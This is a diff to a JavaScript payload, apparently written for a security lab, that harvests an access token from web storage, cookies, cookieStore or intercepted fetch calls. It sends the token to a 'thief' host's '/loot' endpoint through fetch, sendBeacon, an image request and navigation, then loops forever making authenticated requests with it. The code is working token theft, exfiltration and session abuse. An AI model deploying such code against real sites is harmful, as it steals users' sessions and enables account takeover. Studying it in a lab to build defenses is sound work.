@@ -11,13 +11,14 @@ const wait = (milliseconds) => new Promise((resolve) => { setTimeout(resolve, mi
 const csrf = () => document.cookie.split('; ').find((pair) => pair.startsWith('__Host-csrftoken='))?.split('=')[1] ?? '';
 
 /** 1. Look: everything that script may read. */
-function look() {
-  for (const [where, kept] of [['localStorage', localStorage], ['sessionStorage', sessionStorage]]) {
-    const token = kept.getItem('lab_access_token');
-    if (token) return { where, token };
-  }
-  const pair = document.cookie.split('; ').find((one) => one.startsWith('lab_token='));
-  return pair ? { where: 'document.cookie', token: pair.split('=')[1] } : null;
+async function look() {
+  const seen = [
+    ['localStorage', localStorage.getItem('lab_access_token')],
+    ['sessionStorage', sessionStorage.getItem('lab_access_token')],
+    ['document.cookie', document.cookie.split('; ').find((one) => one.startsWith('lab_token='))?.split('=')[1]],
+    ['cookieStore', (await globalThis.cookieStore?.get('lab_token'))?.value],
+  ].filter(([, token]) => token);
+  return seen.length ? { where: seen.map(([where]) => where).join(' and '), token: seen[0][1] } : null;
 }
 
 /** 2. Listen: stand in front of fetch and wait for the page to use its token. */
@@ -48,11 +49,11 @@ async function carry(token) {
   });
   const to = (via) => `${thief}/loot?tag=${tag}&run=${run}&via=${via}`;
   const sent = await fetch(to('fetch'), { method: 'POST', mode: 'no-cors', body: token }).then(() => true, () => false);
-  navigator.sendBeacon(to('beacon'), token);
+  const promised = navigator.sendBeacon(to('beacon'), token);
   new Image().src = `${to('image')}&t=${token}`;
   await wait(500);
   if (sent || !blocked.size) return;
-  tell('leaving');
+  tell('leaving', { promised });
   await ride({ token });
   tell('done');
   location.assign(`${to('navigation')}&t=${token}`); // no directive stops a page from being left
@@ -67,8 +68,17 @@ async function ride(found) {
   tell('rode', { status: response.status, balance });
 }
 
+/** Again and again, for as long as this page is open. */
+async function rideOn(found) {
+  for (let times = 1; ; times += 1) {
+    await ride(found);
+    if (times === 3) tell('done');
+    await wait(700);
+  }
+}
+
 const heard = listen();
-const kept = look();
+const kept = await look();
 const used = kept ? null : await heard;
 const minted = kept ? null : await ask();
 const found = kept ?? used ?? minted;
@@ -76,10 +86,8 @@ if (found) {
   const where = [kept, used, minted].filter(Boolean).map((one) => one.where).join(', and another in ');
   tell('read', { where, shown: `${found.token.slice(0, 8)}… (${found.token.length} characters)` });
   await carry(found.token);
-  await ride(found);
 } else {
-  tell('nothing-to-read', { looked: 'localStorage, sessionStorage, document.cookie, fetch, the refresh endpoint' });
-  setInterval(ride, 1000, null); // for as long as this page is open
-  await ride(null);
+  const jars = globalThis.cookieStore ? 'document.cookie, cookieStore' : 'document.cookie';
+  tell('nothing-to-read', { looked: `localStorage, sessionStorage, ${jars}, fetch, the refresh endpoint` });
 }
-tell('done');
+await rideOn(found);
